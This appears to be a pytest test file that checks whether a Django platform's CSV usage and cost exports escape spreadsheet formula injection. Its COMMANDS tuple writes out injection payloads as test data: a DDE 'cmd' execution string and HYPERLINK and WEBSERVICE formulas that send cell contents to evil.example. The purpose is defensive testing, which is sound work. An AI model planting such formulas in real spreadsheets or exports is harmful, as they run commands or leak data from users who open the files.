"""What tenants take away is opened in a spreadsheet: nothing that somebody has named calculates there, and every number
is one."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.utils import timezone

from apps.accounts.models import User
from apps.audit.downloads import FORMULAS, cell, meant
from apps.catalog.models import Deployment, Model, Provider
from apps.keys.models import Key
from apps.tenants.models import Project
from apps.usage import ledger, rollups
from tests import factories
from tests.money.calls import intent, outcome

pytestmark = pytest.mark.attack("F30")

COMMANDS = ("cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1)', "1+1", 'WEBSERVICE("https://evil.example")')
TODAY = timezone.now().date()
FILES = {
    "usage-export": [{}],
    "costs-export": [
        {"by": by, "table": table} for by in ("project", "key", "user", "model") for table in ("", "time")
    ],
    "costs-focus": [{"first": f"{TODAY.replace(day=1)}", "last": f"{TODAY}", "kind": "csv"}],
}
NUMBERS = ("cost", "tokens", "latency", "quantity", "price", "calls")


def called(project: Any, user: Any, said: str) -> None:
    """A call by a key, of a model, with errors and an agent of such names; and its project's and its user's."""
    key = factories.key(project, name="Laptop", user=user).key
    deployment = factories.deployment(factories.model(), factories.provider())
    Project.objects.filter(pk=project.pk).update(name=said)
    User.objects.filter(pk=user.pk).update(username=said, first_name=said, last_name=said)
    Key.objects.filter(pk=key.pk).update(name=said)
    Provider.objects.filter(pk=deployment.provider_id).update(name=said)
    Deployment.objects.filter(pk=deployment.pk).update(upstream_model=said)
    Model.objects.filter(pk=deployment.model_id).update(name=said, display_name=said)
    whose = {"tenant_id": project.tenant_id, "project_id": project.pk, "key_id": key.pk, "user_id": user.pk}
    where = {"model_id": deployment.model_id, "provider_id": deployment.provider_id, "deployment_id": deployment.pk}
    text = dict.fromkeys(("credential", "model_name", "upstream_model", "user_agent", "session"), said)
    ledger.post([outcome(intent(**whose, **where, **text), cost=123_456_789, error_code=said, trail=(said,))])
    rollups.roll_up()


@pytest.mark.parametrize("sign", FORMULAS, ids=repr)
def test_nothing_calculates_and_numbers_are_numbers(visit, website, alice, figure, sign):
    called(website, alice, f"{sign}{COMMANDS[FORMULAS.index(sign) % len(COMMANDS)]}")
    visitor, shown, files = visit(alice), 0, 0
    for name, questions in FILES.items():
        for question in questions:
            files += 1
            response = visitor.get(name, question)
            assert response.status_code == 200, (name, response.content[:500])
            text = b"".join(response.streaming_content).decode("utf-8-sig")
            heads, *rows = csv.reader(io.StringIO(text, newline=""))
            assert [head for head in heads if head.startswith(FORMULAS)] == []
            assert rows, name
            for row in rows:
                told = dict(zip(heads, row, strict=True))
                assert [value for value in row if value.startswith(FORMULAS) and not _is_number(value)] == [], (
                    name,
                    told,
                )
                shown += sum(value.startswith(f"'{sign}") for value in row)
                counted = [value for head, value in told.items() if head.lower().endswith(NUMBERS) and value]
                assert all(_is_number(value) for value in counted), told
            shown += sum(head.startswith(f"'{sign}") for head in heads)
    assert shown > 4, "they are in the files"
    figure("F30", f"files that a tenant takes away with names that begin with {sign!r}", files, least=10)


def _is_number(text: str) -> bool:
    try:
        return Decimal(text).is_finite()
    except ArithmeticError:
        return False


@pytest.mark.parametrize("value", [-5, 0, -1.5, 10**20, None, "Laptop", "a=b", "", "'"])
def test_what_is_no_formula_is_left_as_it_is(value):
    assert cell(value) is value


def test_an_amount_is_written_out():
    assert cell(Decimal("-0.000000001")) == "-0.000000001"


@pytest.mark.parametrize("sign", FORMULAS, ids=repr)
def test_what_was_made_text_is_meant_as_it_was(sign):
    assert cell(f"{sign}1") == f"'{sign}1"
    assert meant(cell(f"{sign}1")) == f"{sign}1"
